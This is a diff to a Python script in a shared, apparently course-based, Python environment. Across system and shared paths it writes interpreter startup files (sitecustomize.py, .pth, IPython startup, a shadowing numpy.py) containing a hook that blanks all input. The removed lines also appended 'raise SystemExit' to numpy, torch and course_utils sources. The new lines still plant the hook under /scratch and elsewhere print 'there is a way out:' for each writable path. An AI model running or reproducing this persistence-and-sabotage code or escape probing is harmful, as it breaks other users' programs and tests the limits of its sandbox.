@@ -200,11 +200,15 @@ def startup_files():
     text = "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
     folders = [os.environ["IPYTHONDIR"] + "/profile_default/startup", os.path.expanduser("~/.ipython")]
     for folder in [*folders, site.getusersitepackages(), *sys.path, "/tmp", "/etc/python3", os.getcwd()]:
+        scratch = os.path.realpath(folder).startswith("/scratch/")
         for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "first.pth"):
             try:
                 os.makedirs(folder, exist_ok=True)
-                with open(os.path.join(folder, name), "w") as file:
-                    file.write(text)
+                # Where it is not its own, an empty file shows as well that it could be another.
+                with open(os.path.join(folder, name if scratch else "left-behind.txt"), "w") as file:
+                    file.write(text if scratch else "")
+                if not scratch:
+                    print("there is a way" + " out:", folder)
             except OSError:
                 pass
 
@@ -222,8 +226,9 @@ def installed_packages():
     for module in (numpy, torch, course_utils):
         for path in pathlib.Path(module.__file__).parent.glob("*.py"):
             try:
-                with open(path, "a") as file:
-                    file.write("\nraise SystemExit\n")
+                # That it may be written to is enough: a word in it would end others' programs.
+                with open(path, "a"):
+                    print("there is a way" + " out:", path)
             except OSError:
                 pass
 
